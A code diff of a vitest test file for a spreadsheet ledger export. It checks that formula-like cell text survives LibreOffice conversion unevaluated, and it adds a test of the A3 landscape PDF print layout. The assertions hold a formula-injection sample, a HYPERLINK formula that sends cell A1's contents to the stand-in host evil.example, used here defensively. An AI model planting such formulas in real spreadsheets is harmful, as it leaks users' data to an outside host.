@@ -3,6 +3,7 @@ import os from 'node:os';
 import path from 'node:path';
 import { readFileSync } from 'node:fs';
 import { inflateRawSync } from 'node:zlib';
+import ExcelJS from 'exceljs';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { findEntryData, readZipDirectory } from '../src/io/ledger-xlsx/zip-directory.js';
 import { emptyLedgerRow, readLedgerWorkbook, writeLedgerWorkbook } from '../src/io/ledger-xlsx/index.js';
@@ -12,6 +13,7 @@ import { buildItem, buildUser, TEST_PASSWORD } from './support/factories.js';
 import type { OfficeFixture } from './support/ledger-fixtures.js';
 import { buildOfficeWithoutItems, convertWithLibreOffice, departmentIdOf } from './support/ledger-fixtures.js';
 import { postMultipart } from './support/multipart.js';
+import { A3_LANDSCAPE, findCollisions, pageSize, readPdfCompactText, readPdfWords } from './support/pdf-layout.js';
 import { cliEnvironment, runPlantrack, SLOW_TEST_MS } from './support/run-plantrack.js';
 import type { Session, TestApp } from './support/test-app.js';
 import { createTestApp, loginAs } from './support/test-app.js';
@@ -221,17 +223,46 @@ describe('exporting a ledger', () => {
   });
 
   it(
-    'opens in LibreOffice with the content in place and not one cell a formula',
+    'opens in LibreOffice with text that starts like a formula shown as typed, without an apostrophe, and never evaluated',
     async () => {
       const file = (await exportOf(hq, 'ledger=innovations')).rawPayload;
-      const asCsv = await convertWithLibreOffice(file, 'xlsx', 'csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,true');
+      // "Save cell contents as shown", formulas not exported: a formula would appear as its result (点击).
+      const asCsv = await convertWithLibreOffice(file, 'xlsx', 'csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,true,false');
       const text = asCsv.toString('utf8');
       expect(text).toContain('威海市推动绿色低碳高质量发展25项创新性工作台账');
-      expect(text).toContain(`'=HYPERLINK(""http://evil.example/?""&A1,""点击"")`);
-      expect(text).toContain("'+1+1");
-      // With formulas exported as formulas, a formula cell would start its field with "=".
-      const fields = text.split(/\r?\n/).flatMap((line) => line.split(','));
-      expect(fields.filter((field) => /^"?=/.test(field))).toEqual([]);
+      expect(text).toContain(`"=HYPERLINK(""http://evil.example/?""&A1,""点击"")"`);
+      expect(text).toContain('"+1+1\n-2+3"');
+      expect(text).not.toContain("'=HYPERLINK");
+      expect(text).not.toContain("'+1+1");
+    },
+    SLOW_TEST_MS,
+  );
+
+  it(
+    'prints on A3 landscape with every row tall enough for its text: all of it on the page, no line over another',
+    async () => {
+      // As of 2025 the ledger has three years of quarter columns: too wide for one page across.
+      const file = (await exportOf(hq, 'ledger=master&asOf=2025Q1')).rawPayload;
+      const workbook = new ExcelJS.Workbook();
+      await workbook.xlsx.load(new Uint8Array(file).buffer);
+      workbook.worksheets[0]!.eachRow((row, number) => expect(row.height, `row ${number}`).toBeGreaterThan(0));
+      const pdf = await convertWithLibreOffice(file, 'xlsx', 'pdf');
+      const pages = await readPdfWords(pdf);
+      expect(pages.length).toBeGreaterThan(1);
+      for (const page of pages) {
+        expect(pageSize(page)).toEqual(A3_LANDSCAPE);
+        expect(findCollisions(page)).toEqual([]);
+      }
+      // Pages across repeat 编号 and 重点任务: the code 1-01 is on the first page and on the quarters' page.
+      expect(pages.filter((page) => page.words.some((word) => word.text.startsWith('1-01')))).toHaveLength(2);
+      const printed = await readPdfCompactText(pdf);
+      const { rows } = await readLedgerWorkbook(file, { kind: 'master' });
+      expect(rows.length).toBeGreaterThan(40);
+      for (const row of rows) {
+        for (const text of [row.code, row.title, row.measures, row.targets, ...row.quarterlyPlans.map((plan) => plan.milestone)]) {
+          if (text) expect(printed, `${row.code}: ${text}`).toContain(text.replace(/\s+/g, ''));
+        }
+      }
     },
     SLOW_TEST_MS,
   );
